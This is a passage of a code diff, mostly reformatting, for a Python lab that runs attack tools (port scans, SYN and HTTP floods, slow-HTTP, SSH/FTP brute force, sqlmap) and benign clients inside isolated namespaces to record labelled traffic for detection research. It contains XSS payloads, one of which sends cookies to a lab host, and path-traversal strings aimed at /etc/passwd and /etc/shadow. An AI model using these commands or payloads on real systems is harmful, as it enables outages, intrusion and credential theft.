@@ -45,7 +45,7 @@ __all__ = ['LAB_FAMILIES', 'TOOLS', 'BENIGN_ACTIVITIES', 'TOOL_BINARIES', 'LAB_B
 # %% ../nbs/14_lab.ipynb #14ef0111
 LAB_FAMILIES = ("benign", "dos", "ddos", "portscan", "bruteforce", "slowhttp", "bot", "webattack")
 
-TOOLS: dict[str, dict[str, tuple[str, ...]]] = {   # family -> tool -> variants
+TOOLS: dict[str, dict[str, tuple[str, ...]]] = {  # family -> tool -> variants
     "portscan": {"nmap": ("sT", "sS", "sF", "sX", "sN", "sA"), "masscan": ("syn",)},
     "dos": {"hping3": ("syn", "ack", "udp", "fin"), "httpflood": ("get", "post"), "goldeneye": ("get", "post", "random")},
     "ddos": {"hping3": ("syn", "udp", "ack"), "httpflood": ("get", "post"), "goldeneye": ("get", "random")},
@@ -53,22 +53,58 @@ TOOLS: dict[str, dict[str, tuple[str, ...]]] = {   # family -> tool -> variants
     "bruteforce": {"hydra": ("ssh", "ftp", "http"), "medusa": ("ssh", "ftp", "http"), "ncrack": ("ssh", "ftp")},
     "webattack": {"sqlmap": ("search", "item"), "xss-probe": ("get",), "traversal-probe": ("get",)},
     "bot": {"beacon": ("get", "post")},
-    "benign": {"poller": ("http", "tcp")},   # benign services run as steps: their flows are labelled benign
+    "benign": {"poller": ("http", "tcp")},  # benign services run as steps: their flows are labelled benign
 }
 
 BENIGN_ACTIVITIES = ("browse", "download", "login", "private", "ssh", "scp", "ftp", "dns", "update", "idle")
 
-TOOL_BINARIES = {   # what each tool (and the lab itself) needs on PATH
-    "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "goldeneye": "goldeneye", "slowhttptest": "slowhttptest",
-    "hydra": "hydra", "medusa": "medusa", "ncrack": "ncrack", "sqlmap": "sqlmap", "xss-probe": "curl",
-    "traversal-probe": "curl", "beacon": "python3", "httpflood": "curl", "poller": "python3"}
-LAB_BINARIES = ("ip", "ss", "tcpdump", "timeout", "nginx", "sshd", "vsftpd", "dnsmasq", "curl", "ssh", "scp", "ssh-keygen", "dig", "python3")
+TOOL_BINARIES = {  # what each tool (and the lab itself) needs on PATH
+    "nmap": "nmap",
+    "masscan": "masscan",
+    "hping3": "hping3",
+    "goldeneye": "goldeneye",
+    "slowhttptest": "slowhttptest",
+    "hydra": "hydra",
+    "medusa": "medusa",
+    "ncrack": "ncrack",
+    "sqlmap": "sqlmap",
+    "xss-probe": "curl",
+    "traversal-probe": "curl",
+    "beacon": "python3",
+    "httpflood": "curl",
+    "poller": "python3",
+}
+LAB_BINARIES = (
+    "ip",
+    "ss",
+    "tcpdump",
+    "timeout",
+    "nginx",
+    "sshd",
+    "vsftpd",
+    "dnsmasq",
+    "curl",
+    "ssh",
+    "scp",
+    "ssh-keygen",
+    "dig",
+    "python3",
+)
 
-LAB = register_schema(FlowSchema(
-    name="lab", numeric=NFSTREAM.numeric, categorical=NFSTREAM.categorical, timing=NFSTREAM.timing,
-    label=FAMILY, benign="benign", classes=LAB_FAMILIES,
-    identifiers=NFSTREAM.identifiers + ("tool", "variant", "step", "session"),
-    timestamp=NFSTREAM.timestamp))
+# %% ../nbs/14_lab.ipynb #36a4cc90
+LAB = register_schema(
+    FlowSchema(
+        name="lab",
+        numeric=NFSTREAM.numeric,
+        categorical=NFSTREAM.categorical,
+        timing=NFSTREAM.timing,
+        label=FAMILY,
+        benign="benign",
+        classes=LAB_FAMILIES,
+        identifiers=NFSTREAM.identifiers + ("tool", "variant", "step", "session"),
+        timestamp=NFSTREAM.timestamp,
+    )
+)
 
 # %% ../nbs/14_lab.ipynb #3718cb6b
 class ScenarioError(ValueError):
@@ -83,12 +119,31 @@ class LabInterrupted(KeyboardInterrupt):
     "SIGTERM or SIGINT arrived while a session was recording; the lab was cleaned up before this propagates."
 
 
-DEBIAN_PACKAGES = {"ip": "iproute2", "ss": "iproute2", "tcpdump": "tcpdump", "timeout": "coreutils", "nginx": "nginx-light",
-                   "sshd": "openssh-server", "vsftpd": "vsftpd", "dnsmasq": "dnsmasq-base", "curl": "curl",
-                   "ssh": "openssh-client", "scp": "openssh-client", "ssh-keygen": "openssh-client", "dig": "dnsutils",
-                   "python3": "python3", "nmap": "nmap", "masscan": "masscan", "hping3": "hping3",
-                   "goldeneye": "goldeneye", "slowhttptest": "slowhttptest", "hydra": "hydra", "medusa": "medusa",
-                   "ncrack": "ncrack", "sqlmap": "sqlmap"}
+DEBIAN_PACKAGES = {
+    "ip": "iproute2",
+    "ss": "iproute2",
+    "tcpdump": "tcpdump",
+    "timeout": "coreutils",
+    "nginx": "nginx-light",
+    "sshd": "openssh-server",
+    "vsftpd": "vsftpd",
+    "dnsmasq": "dnsmasq-base",
+    "curl": "curl",
+    "ssh": "openssh-client",
+    "scp": "openssh-client",
+    "ssh-keygen": "openssh-client",
+    "dig": "dnsutils",
+    "python3": "python3",
+    "nmap": "nmap",
+    "masscan": "masscan",
+    "hping3": "hping3",
+    "goldeneye": "goldeneye",
+    "slowhttptest": "slowhttptest",
+    "hydra": "hydra",
+    "medusa": "medusa",
+    "ncrack": "ncrack",
+    "sqlmap": "sqlmap",
+}
 
 # %% ../nbs/14_lab.ipynb #0c5e4d12
 class _Strict(BaseModel):
@@ -97,7 +152,8 @@ class _Strict(BaseModel):
 
 def _range(v, name):
     "A [lo, hi] pair from a number or a two-item list."
-    if isinstance(v, (int, float)): return [float(v), float(v)]
+    if isinstance(v, (int, float)):
+        return [float(v), float(v)]
     if isinstance(v, (list, tuple)) and len(v) == 2 and all(isinstance(x, (int, float)) for x in v) and v[0] <= v[1]:
         return [float(v[0]), float(v[1])]
     raise ValueError(f"{name} must be a number or a [low, high] pair with low <= high, got {v!r}")
@@ -106,15 +162,20 @@ def _range(v, name):
 def _bounded(v, name: str, low: float, high: float | None = None, *, whole: bool = False, unit: str = "") -> list:
     "`_range(v, name)` within bounds: whole numbers in low..high (`whole`), else (low, high], or >= low without `high`."
     lo, hi = _range(v, name)
-    if whole: ok, where = low <= lo and hi <= high, f"lie in {low}..{high}"
-    elif high is None: ok, where = lo >= low, f"be >= {low}"
-    else: ok, where = lo > low and hi <= high, f"lie in ({low}, {high}]"
-    if not ok: raise ValueError(f"{name} must {where}{unit}, got {v!r}")
+    if whole:
+        ok, where = low <= lo and hi <= high, f"lie in {low}..{high}"
+    elif high is None:
+        ok, where = lo >= low, f"be >= {low}"
+    else:
+        ok, where = lo > low and hi <= high, f"lie in ({low}, {high}]"
+    if not ok:
+        raise ValueError(f"{name} must {where}{unit}, got {v!r}")
     return [int(lo), int(hi)] if whole else [lo, hi]
 
 # %% ../nbs/14_lab.ipynb #a83925fc
 class BenignSpec(_Strict):
     "The benign clients: how many hosts, how often each starts an activity, and the mix of activities."
+
     clients: list[int] = Field(default_factory=lambda: [3, 3], description="[min, max] number of client hosts")
     rate: list[float] = Field(default_factory=lambda: [1.0, 1.0], description="activities started per second per client, [min, max]")
     mix: dict[str, float] = Field(default_factory=lambda: {a: 1.0 for a in BENIGN_ACTIVITIES})
@@ -133,13 +194,16 @@ class BenignSpec(_Strict):
     @classmethod
     def _mix(cls, v):
         bad = [k for k in v if k not in BENIGN_ACTIVITIES]
-        if bad: raise ValueError(f"unknown benign activity {', '.join(map(repr, bad))}; valid: {', '.join(BENIGN_ACTIVITIES)}")
-        if any(w < 0 for w in v.values()) or sum(v.values()) <= 0: raise ValueError("benign.mix weights must be >= 0 with a positive sum")
+        if bad:
+            raise ValueError(f"unknown benign activity {', '.join(map(repr, bad))}; valid: {', '.join(BENIGN_ACTIVITIES)}")
+        if any(w < 0 for w in v.values()) or sum(v.values()) <= 0:
+            raise ValueError("benign.mix weights must be >= 0 with a positive sum")
         return v
 
 # %% ../nbs/14_lab.ipynb #a7b9ab85
 class StepSpec(_Strict):
     "One step: an attack family (or `benign`, a service such as a monitoring poller), the tool that makes it, when it starts, how long it may run, how hard it pushes."
+
     family: str
     tool: str
     name: str | None = None
@@ -167,7 +231,8 @@ class StepSpec(_Strict):
     @field_validator("family")
     @classmethod
     def _family(cls, v):
-        if v not in TOOLS: raise ValueError(f"unknown family '{v}'; valid: {', '.join(TOOLS)}")
+        if v not in TOOLS:
+            raise ValueError(f"unknown family '{v}'; valid: {', '.join(TOOLS)}")
         return v
 
     def model_post_init(self, _ctx) -> None:
@@ -175,11 +240,13 @@ class StepSpec(_Strict):
         if self.tool not in tools:
             raise ValueError(f"unknown tool '{self.tool}' for family '{self.family}'; valid: {', '.join(tools)}")
         bad = [v for v in (self.variants or []) if v not in tools[self.tool]]
-        if bad: raise ValueError(f"unknown variant {', '.join(map(repr, bad))} of {self.tool}; valid: {', '.join(tools[self.tool])}")
+        if bad:
+            raise ValueError(f"unknown variant {', '.join(map(repr, bad))} of {self.tool}; valid: {', '.join(tools[self.tool])}")
 
 # %% ../nbs/14_lab.ipynb #7f0a8ddd
 class Scenario(_Strict):
     "A lab session: capture length, benign clients and attack steps (`params/lab/*.yaml`)."
+
     name: str = Field(pattern=r"^[A-Za-z0-9][A-Za-z0-9._-]*$")
     duration_s: float = Field(gt=2, le=600, description="seconds of capture after the services are up")
     snaplen: int = Field(256, ge=96, le=65535)
@@ -208,38 +275,48 @@ def _scenario_error(where: str, e: ValidationError) -> ScenarioError:
 
 def parse_scenario(raw: dict, where: str = "scenario") -> Scenario:
     "Validate a scenario mapping; `ScenarioError` names `where`, the key and the valid values."
-    if not isinstance(raw, dict): raise ScenarioError(f"{where}: expected a mapping of keys, got {type(raw).__name__}")
-    try: sc = Scenario.model_validate(raw)
-    except ValidationError as e: raise _scenario_error(where, e) from None
+    if not isinstance(raw, dict):
+        raise ScenarioError(f"{where}: expected a mapping of keys, got {type(raw).__name__}")
+    try:
+        sc = Scenario.model_validate(raw)
+    except ValidationError as e:
+        raise _scenario_error(where, e) from None
     names = [s.name for s in sc.steps if s.name]
     dup = sorted({n for n in names if names.count(n) > 1})
-    if dup: raise ScenarioError(f"{where}: step name(s) used twice: {', '.join(dup)}")
+    if dup:
+        raise ScenarioError(f"{where}: step name(s) used twice: {', '.join(dup)}")
     late = [s.name or f"{s.family}/{s.tool}" for s in sc.steps if s.at[1] >= sc.duration_s]
-    if late: raise ScenarioError(f"{where}: step(s) {', '.join(late)} start at or after duration_s={sc.duration_s}")
+    if late:
+        raise ScenarioError(f"{where}: step(s) {', '.join(late)} start at or after duration_s={sc.duration_s}")
     return sc
 
 
 def load_scenario(path) -> Scenario:
     "Read and validate `params/lab/<name>.yaml`."
     path = Path(path)
-    if not path.is_file(): raise ScenarioError(f"scenario file '{path}' not found (expected e.g. params/lab/smoke.yaml)")
-    try: raw = yaml.safe_load(path.read_text()) or {}
-    except yaml.YAMLError as e: raise ScenarioError(f"{path}: not valid YAML ({getattr(e, 'problem', e)})") from None
-    if isinstance(raw, dict): raw.setdefault("name", path.stem)
+    if not path.is_file():
+        raise ScenarioError(f"scenario file '{path}' not found (expected e.g. params/lab/smoke.yaml)")
+    try:
+        raw = yaml.safe_load(path.read_text()) or {}
+    except yaml.YAMLError as e:
+        raise ScenarioError(f"{path}: not valid YAML ({getattr(e, 'problem', e)})") from None
+    if isinstance(raw, dict):
+        raw.setdefault("name", path.stem)
     return parse_scenario(raw, str(path))
 
 # %% ../nbs/14_lab.ipynb #c480a2ce
 LAB_NET = ipaddress.ip_network("198.18.0.0/15")
 SERVERS = {"web": "198.18.0.10", "infra": "198.18.0.11"}
-SECRET_USER, SECRET_PASSWORD = "alice", "correct-horse-battery"   # the benign users' credentials (never in a wordlist)
+SECRET_USER, SECRET_PASSWORD = "alice", "correct-horse-battery"  # the benign users' credentials (never in a wordlist)
 
 
 @dataclass
 class Host:
     "One lab host: a network namespace with one interface on the bridge."
+
     name: str
     ip: str
-    role: str          # server | client | attacker | c2
+    role: str  # server | client | attacker | c2
 
     @property
     def mac(self) -> str:
@@ -251,6 +328,7 @@ class Host:
 @dataclass
 class Command:
     "A command line run inside `host`'s namespace; `daemon` commands are stopped when the rest of their step ends."
+
     host: str
     argv: list[str]
     daemon: bool = False
@@ -260,6 +338,7 @@ class Command:
 @dataclass
 class StepPlan:
     "One attack step as it will run: drawn variant, intensity, start, hosts and commands."
+
     name: str
     family: str
     tool: str
@@ -280,21 +359,23 @@ class StepPlan:
 @dataclass
 class SessionPlan:
     "Everything a session will do, drawn from (scenario, seed)."
+
     scenario: Scenario
     seed: int
     work: Path
     hosts: dict[str, Host]
-    clients: dict[str, list[str]]      # client host -> its bash script lines
+    clients: dict[str, list[str]]  # client host -> its bash script lines
     steps: list[StepPlan]
-    files: dict[str, int]              # web file path (under www/) -> size in bytes
-    scripts: dict[str, str] = field(default_factory=dict)   # step scripts and wordlists written at set-up
+    files: dict[str, int]  # web file path (under www/) -> size in bytes
+    scripts: dict[str, str] = field(default_factory=dict)  # step scripts and wordlists written at set-up
 
     def binaries(self) -> list[str]:
         "Every program this plan runs (the lab's own and each step's tool)."
         need = list(LAB_BINARIES)
         for s in self.steps:
             b = TOOL_BINARIES[s.tool]
-            if b not in need: need.append(b)
+            if b not in need:
+                need.append(b)
         return need
 
     def addresses(self, role: str) -> list[str]:
@@ -312,16 +393,19 @@ class _Ctx:
     me: list[Host]
     c2: Host | None = None
 
-    def n(self, base: float, lo: int = 1) -> int: return max(lo, int(round(base * self.intensity)))
+    def n(self, base: float, lo: int = 1) -> int:
+        return max(lo, int(round(base * self.intensity)))
 
 
-WEB_PAGES = 60          # static pages, images and downloads served by nginx (sizes drawn per session)
+WEB_PAGES = 60  # static pages, images and downloads served by nginx (sizes drawn per session)
 
 
 def _wordlist(ctx: _Ctx, n: int) -> tuple[str, str, str, str]:
     "Users and passwords files for a brute-force step (random words; never the benign users' password)."
     r = ctx.rng
-    users = r.sample(["admin", "root", "test", "user", "oracle", "ftp", "guest", "info", "backup", "operator", "www", "deploy"], r.randint(1, 3))
+    users = r.sample(
+        ["admin", "root", "test", "user", "oracle", "ftp", "guest", "info", "backup", "operator", "www", "deploy"], r.randint(1, 3)
+    )
     stems = ["password", "letmein", "qwerty", "dragon", "monkey", "summer", "winter", "secret", "admin", "welcome", "shadow", "master"]
     pw = {f"{r.choice(stems)}{r.randint(0, 9999)}{r.choice(['', '!', '#', '2024'])}" for _ in range(n * 2)}
     pw = sorted(pw)[:n]
@@ -332,7 +416,8 @@ def _wordlist(ctx: _Ctx, n: int) -> tuple[str, str, str, str]:
 # %% ../nbs/14_lab.ipynb #e1cd3ea9
 def _nmap(ctx: _Ctx):
     r, tgt = ctx.rng, ctx.rng.choice(list(SERVERS.values()))
-    lo = r.randint(1, 3000); hi = min(65535, lo + ctx.n(1000, 50) - 1)
+    lo = r.randint(1, 3000)
+    hi = min(65535, lo + ctx.n(1000, 50) - 1)
     extra = r.choice([[], ["--max-retries", "0"], ["--max-retries", "1"]]) + r.choice([["-T4"], ["-T5"], ["-T4", "--min-rate", "800"]])
     ports = f"{lo}-{hi}" if r.random() < 0.7 else f"21,22,53,80,{lo}-{hi}"
     return tgt, [Command(ctx.me[0].name, ["nmap", "-n", "-Pn", f"-{ctx.variant}", "-p", ports, *extra, tgt])], {}
@@ -340,10 +425,26 @@ def _nmap(ctx: _Ctx):
 
 def _masscan(ctx: _Ctx):
     r, tgt = ctx.rng, ctx.rng.choice(list(SERVERS.values()))
-    lo = r.randint(1, 5000); hi = min(65535, lo + ctx.n(1500, 50) - 1)
+    lo = r.randint(1, 5000)
+    hi = min(65535, lo + ctx.n(1500, 50) - 1)
     me, th = ctx.me[0], Host("t", tgt, "server")
-    argv = ["masscan", tgt, f"-p{lo}-{hi}", "--rate", str(r.choice([500, 1000, 2000, 3000])), "--wait", "1",
-            "--adapter", "eth0", "--adapter-ip", me.ip, "--adapter-mac", me.mac, "--router-mac", th.mac]
+    argv = [
+        "masscan",
+        tgt,
+        f"-p{lo}-{hi}",
+        "--rate",
+        str(r.choice([500, 1000, 2000, 3000])),
+        "--wait",
+        "1",
+        "--adapter",
+        "eth0",
+        "--adapter-ip",
+        me.ip,
+        "--adapter-mac",
+        me.mac,
+        "--router-mac",
+        th.mac,
+    ]
     return tgt, [Command(me.name, argv)], {}
 
 # %% ../nbs/14_lab.ipynb #e55eb9bd
@@ -354,11 +455,17 @@ def _hping3(ctx: _Ctx, per_host: float = 3000):
     r = ctx.rng
     tgt = r.choice(list(SERVERS.values()))
     port = {"udp": r.choice([53, 123, 161, r.randint(1024, 65000)])}.get(ctx.variant, r.choice([80, 80, 22, 21, 443]))
-    gap = r.choice([150, 250, 400, 700])                           # microseconds between packets
+    gap = r.choice([150, 250, 400, 700])  # microseconds between packets
     n = ctx.n(per_host / max(1, len(ctx.me)) if ctx.me and len(ctx.me) > 1 else per_host, 50)
     size = ["-d", str(r.choice([0, 0, 32, 64, 120, 512]))]
-    cmds = [Command(h.name, ["hping3", *_HPING_FLAG[ctx.variant], "-p", str(port), "-c", str(n), "-i", f"u{gap}", *size, "-q", tgt],
-                    delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0) for h in ctx.me]
+    cmds = [
+        Command(
+            h.name,
+            ["hping3", *_HPING_FLAG[ctx.variant], "-p", str(port), "-c", str(n), "-i", f"u{gap}", *size, "-q", tgt],
+            delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0,
+        )
+        for h in ctx.me
+    ]
     return tgt, cmds, {}
 
 
@@ -366,15 +473,26 @@ def _goldeneye(ctx: _Ctx):
     r = ctx.rng
     tgt = r.choice(list(SERVERS.values()))
     method = ctx.variant
-    cmds = [Command(h.name, ["goldeneye", f"http://{tgt}/", "-w", str(r.choice([1, 2])), "-s", str(ctx.n(r.choice([10, 20, 30]), 2)),
-                             "-m", method], delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0) for h in ctx.me]
+    cmds = [
+        Command(
+            h.name,
+            ["goldeneye", f"http://{tgt}/", "-w", str(r.choice([1, 2])), "-s", str(ctx.n(r.choice([10, 20, 30]), 2)), "-m", method],
+            delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0,
+        )
+        for h in ctx.me
+    ]
     return tgt, cmds, {}
 
 
-_UAS = ["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
-        "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15", "curl/7.88.1", "Wget/1.21.3"]
+_UAS = [
+    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15",
+    "curl/7.88.1",
+    "Wget/1.21.3",
+]
 
-
+# %% ../nbs/14_lab.ipynb #8e161c8a
 def _httpflood(ctx: _Ctx):
     "HULK-style flood: unique URLs, no-cache headers, a new connection per request, many in parallel."
     r = ctx.rng
@@ -385,12 +503,31 @@ def _httpflood(ctx: _Ctx):
         lines = []
         for _ in range(ctx.n(r.choice([300, 500, 700]) / max(1, len(ctx.me)) * (2 if len(ctx.me) > 1 else 1), 20)):
             path = r.choice(["", "index.html", "pages/p1.html", "app/search", "login.html", "static/style.css"])
-            q = "&".join(f"{''.join(r.choices('abcdefghijklmnopqrstuvwxyz', k=r.randint(3, 8)))}={r.randint(0, 10**6)}" for _ in range(r.randint(1, 3)))
+            q = "&".join(
+                f"{''.join(r.choices('abcdefghijklmnopqrstuvwxyz', k=r.randint(3, 8)))}={r.randint(0, 10**6)}"
+                for _ in range(r.randint(1, 3))
+            )
             lines += [f'url = "http://{tgt}/{path}?{q}"', 'output = "/dev/null"']
         files[str(cfg)] = "\n".join(lines) + "\n"
-        argv = ["curl", "-s", "--parallel", "--parallel-max", str(r.choice([8, 16, 32])), "-H", "Connection: close",
-                "-H", "Cache-Control: no-cache", "-A", r.choice(_UAS), "--max-time", "5", "--config", str(cfg)]
-        if ctx.variant == "post": argv += ["--data", f"payload={r.randbytes(r.randint(20, 400)).hex()}"]
+        argv = [
+            "curl",
+            "-s",
+            "--parallel",
+            "--parallel-max",
+            str(r.choice([8, 16, 32])),
+            "-H",
+            "Connection: close",
+            "-H",
+            "Cache-Control: no-cache",
+            "-A",
+            r.choice(_UAS),
+            "--max-time",
+            "5",
+            "--config",
+            str(cfg),
+        ]
+        if ctx.variant == "post":
+            argv += ["--data", f"payload={r.randbytes(r.randint(20, 400)).hex()}"]
         cmds.append(Command(h.name, argv, delay=round(r.uniform(0, 0.5), 2) if len(ctx.me) > 1 else 0.0))
     return tgt, cmds, files
 
@@ -399,11 +536,24 @@ def _slowhttptest(ctx: _Ctx):
     r = ctx.rng
     tgt = r.choice(list(SERVERS.values()))
     dur = max(3, int(ctx.max_s) - 2)
-    argv = ["slowhttptest", f"-{ctx.variant}", "-c", str(ctx.n(120, 5)), "-r", str(r.choice([20, 50, 100])), "-l", str(dur),
-            "-u", f"http://{tgt}/" + r.choice(["", "index.html", "app/search?q=a", "login.html"])]
-    if ctx.variant == "H": argv += ["-i", str(r.choice([2, 4, 6])), "-x", str(r.choice([12, 24, 48])), "-p", "3"]
-    if ctx.variant == "B": argv += ["-i", str(r.choice([2, 4, 6])), "-x", str(r.choice([12, 24])), "-s", str(r.choice([4096, 8192])), "-t", "POST", "-p", "3"]
-    if ctx.variant == "X": argv += ["-k", str(r.choice([2, 3])), "-n", str(r.choice([2, 3, 5])), "-w", "10", "-y", "20", "-z", "32", "-p", "3"]
+    argv = [
+        "slowhttptest",
+        f"-{ctx.variant}",
+        "-c",
+        str(ctx.n(120, 5)),
+        "-r",
+        str(r.choice([20, 50, 100])),
+        "-l",
+        str(dur),
+        "-u",
+        f"http://{tgt}/" + r.choice(["", "index.html", "app/search?q=a", "login.html"]),
+    ]
+    if ctx.variant == "H":
+        argv += ["-i", str(r.choice([2, 4, 6])), "-x", str(r.choice([12, 24, 48])), "-p", "3"]
+    if ctx.variant == "B":
+        argv += ["-i", str(r.choice([2, 4, 6])), "-x", str(r.choice([12, 24])), "-s", str(r.choice([4096, 8192])), "-t", "POST", "-p", "3"]
+    if ctx.variant == "X":
+        argv += ["-k", str(r.choice([2, 3])), "-n", str(r.choice([2, 3, 5])), "-w", "10", "-y", "20", "-z", "32", "-p", "3"]
     return tgt, [Command(ctx.me[0].name, argv)], {}
 
 # %% ../nbs/14_lab.ipynb #56ce548c
@@ -430,7 +580,8 @@ def _medusa(ctx: _Ctx):
     r, tgt = ctx.rng, _bruteforce_target(ctx)
     uf, pf, ut, pt = _wordlist(ctx, ctx.n(r.choice([30, 50, 70]), 5))
     argv = ["medusa", "-h", tgt, "-U", uf, "-P", pf, "-M", ctx.variant, "-t", str(r.choice([2, 4])), "-T", "1"]
-    if ctx.variant == "http": argv += ["-m", "DIR:/private/"]
+    if ctx.variant == "http":
+        argv += ["-m", "DIR:/private/"]
     return tgt, [Command(ctx.me[0].name, argv)], {uf: ut, pf: pt}
 
 
@@ -444,18 +595,53 @@ def _ncrack(ctx: _Ctx):
 def _sqlmap(ctx: _Ctx):
     r, tgt = ctx.rng, SERVERS["web"]
     url = {"search": f"http://{tgt}/app/search?q=book", "item": f"http://{tgt}/app/item?id=3"}[ctx.variant]
-    argv = ["sqlmap", "-u", url, "--batch", "--flush-session", "--disable-coloring", "--output-dir", str(ctx.work / f"{ctx.name}.sqlmap"),
-            "--level", str(r.choice([1, 2, 3])), "--risk", str(r.choice([1, 2])), "--threads", str(r.choice([1, 2, 4])),
-            "--technique", r.choice(["BEU", "BEUS", "BU", "EU", "BEUST"]), "--timeout", "5", "--retries", "0"]
+    argv = [
+        "sqlmap",
+        "-u",
+        url,
+        "--batch",
+        "--flush-session",
+        "--disable-coloring",
+        "--output-dir",
+        str(ctx.work / f"{ctx.name}.sqlmap"),
+        "--level",
+        str(r.choice([1, 2, 3])),
+        "--risk",
+        str(r.choice([1, 2])),
+        "--threads",
+        str(r.choice([1, 2, 4])),
+        "--technique",
+        r.choice(["BEU", "BEUS", "BU", "EU", "BEUST"]),
+        "--timeout",
+        "5",
+        "--retries",
+        "0",
+    ]
     argv += r.choice([[], ["--random-agent"], ["--dbs"], ["--tables"], ["--dump", "-T", "users"]])
     return tgt, [Command(ctx.me[0].name, argv)], {}
 
 # %% ../nbs/14_lab.ipynb #1ff6adf9
-_XSS = ["<script>alert({k})</script>", "\"><img src=x onerror=alert({k})>", "<svg/onload=alert('{k}')>",
-        "javascript:alert({k})", "<iframe src=javascript:alert({k})>", "'><script>document.location='http://198.19.0.1/?c='+document.cookie</script>",
-        "<body onload=alert({k})>", "<a href=\"javascript:alert({k})\">x</a>", "%3Cscript%3Ealert({k})%3C/script%3E"]
-_TRAVERSAL = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
-              "%2e%2e/%2e%2e/%2e%2e/etc/hosts", "../../../../proc/self/environ", "/etc/passwd%00.html", "..%252f..%252fetc/passwd"]
+_XSS = [
+    "<script>alert({k})</script>",
+    '"><img src=x onerror=alert({k})>',
+    "<svg/onload=alert('{k}')>",
+    "javascript:alert({k})",
+    "<iframe src=javascript:alert({k})>",
+    "'><script>document.location='http://198.19.0.1/?c='+document.cookie</script>",
+    "<body onload=alert({k})>",
+    '<a href="javascript:alert({k})">x</a>',
+    "%3Cscript%3Ealert({k})%3C/script%3E",
+]
+_TRAVERSAL = [
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fshadow",
+    "....//....//etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
+    "../../../../proc/self/environ",
+    "/etc/passwd%00.html",
+    "..%252f..%252fetc/passwd",
+]
 
 
 def _probe_script(ctx: _Ctx, kind: str) -> tuple[str, str]:
@@ -470,9 +656,13 @@ def _probe_script(ctx: _Ctx, kind: str) -> tuple[str, str]:
             req = f"curl -s -o /dev/null --max-time 3 -G --data-urlencode {shlex.quote(param + '=' + p)} http://{web}{path}"
         else:
             p = r.choice(_TRAVERSAL)
-            req = r.choice([f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/app/file?name={p}')}",
-                            f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/static/{p}')}",
-                            f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/files/{p}')}"])
+            req = r.choice(
+                [
+                    f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/app/file?name={p}')}",
+                    f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/static/{p}')}",
+                    f"curl -s -o /dev/null --max-time 3 --path-as-is {shlex.quote(f'http://{web}/files/{p}')}",
+                ]
+            )
         lines.append(f"{req}; sleep {r.uniform(0.02, 0.4):.2f}")
     path = ctx.work / f"{ctx.name}.sh"
     return str(path), "\n".join(lines) + "\n"
@@ -492,10 +682,23 @@ def _beacon(ctx: _Ctx):
     r, c2 = ctx.rng, ctx.c2
     cmds = [Command(c2.name, ["python3", str(ctx.work / "c2.py"), c2.ip, str(r.randint(0, 2**31))], daemon=True)]
     for h in ctx.me:
-        interval = round(r.choice([0.5, 1.0, 2.0, 3.0]) / ctx.intensity, 3)     # more intensity, more frequent beacons
-        cmds.append(Command(h.name, ["python3", str(ctx.work / "beacon.py"), c2.ip, ctx.variant, str(interval),
-                                     str(r.choice([0.1, 0.3, 0.5])), str(max(2, int(ctx.max_s) - 1)), str(r.randint(0, 2**31))],
-                            delay=round(0.5 + r.uniform(0, 1.0), 2)))
+        interval = round(r.choice([0.5, 1.0, 2.0, 3.0]) / ctx.intensity, 3)  # more intensity, more frequent beacons
+        cmds.append(
+            Command(
+                h.name,
+                [
+                    "python3",
+                    str(ctx.work / "beacon.py"),
+                    c2.ip,
+                    ctx.variant,
+                    str(interval),
+                    str(r.choice([0.1, 0.3, 0.5])),
+                    str(max(2, int(ctx.max_s) - 1)),
+                    str(r.randint(0, 2**31)),
+                ],
+                delay=round(0.5 + r.uniform(0, 1.0), 2),
+            )
+        )
     return c2.ip, cmds, {}
 
 
@@ -503,22 +706,53 @@ def _poller(ctx: _Ctx):
     "A monitoring poller (benign): every few seconds, with little jitter, an HTTP status check or a TCP connect check of lab services."
     r, web, infra = ctx.rng, SERVERS["web"], SERVERS["infra"]
     if ctx.variant == "http":
-        pool = [f"http://{web}/status.json", f"http://{infra}/status.json", f"http://{web}/app/item?id=1", f"http://{infra}/updates/manifest.json"]
+        pool = [
+            f"http://{web}/status.json",
+            f"http://{infra}/status.json",
+            f"http://{web}/app/item?id=1",
+            f"http://{infra}/updates/manifest.json",
+        ]
     else:
         pool = [f"{web}:22", f"{web}:80", f"{web}:21", f"{infra}:22", f"{infra}:80"]
     cmds = []
     for h in ctx.me:
         targets = r.sample(pool, r.randint(1, 3))
-        interval = round(r.choice([1.0, 2.0, 3.0]) / ctx.intensity, 3)     # machines poll on a fixed period
-        cmds.append(Command(h.name, ["python3", str(ctx.work / "poller.py"), ctx.variant, str(interval), str(r.choice([0.02, 0.05, 0.1])),
-                                     str(max(2, int(ctx.max_s) - 1)), str(r.randint(0, 2**31)), *targets], delay=round(r.uniform(0, 0.5), 2)))
+        interval = round(r.choice([1.0, 2.0, 3.0]) / ctx.intensity, 3)  # machines poll on a fixed period
+        cmds.append(
+            Command(
+                h.name,
+                [
+                    "python3",
+                    str(ctx.work / "poller.py"),
+                    ctx.variant,
+                    str(interval),
+                    str(r.choice([0.02, 0.05, 0.1])),
+                    str(max(2, int(ctx.max_s) - 1)),
